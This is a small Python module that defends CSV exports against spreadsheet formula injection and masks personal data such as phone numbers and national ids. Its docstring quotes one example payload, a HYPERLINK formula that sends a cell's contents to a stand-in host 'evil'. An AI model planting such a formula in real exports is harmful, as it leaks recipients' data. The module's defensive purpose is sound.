"""What makes an export safe to open and to hand on: formula neutralising and masking.

A note typed as ``=HYPERLINK("http://evil/?"&A1,"click")`` must not become a live formula
when a lead opens the CSV in Excel (OWASP "CSV injection"): any text cell starting with
``= + - @``, a tab, CR or LF (or their full-width forms, which some spreadsheets accept)
gets a leading apostrophe. Personal data is masked by default: phones show their last three
digits, and national ids or phone numbers an agent typed into the notes are masked too, in
every written form (``console.masking``: the same function for drop files and logs).
"""

from __future__ import annotations

from console.masking import mask_number, mask_text

FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def neutralise(text: str) -> str:
    """Make a text cell inert in a spreadsheet (leading apostrophe before formula starts)."""
    if text and text[0] in FORMULA_STARTS:
        return "'" + text
    return text


# National ids and phone numbers inside free text: the one masking function of console.masking.
mask_notes = mask_text
__all__ = ["FORMULA_STARTS", "mask_notes", "mask_number", "neutralise"]
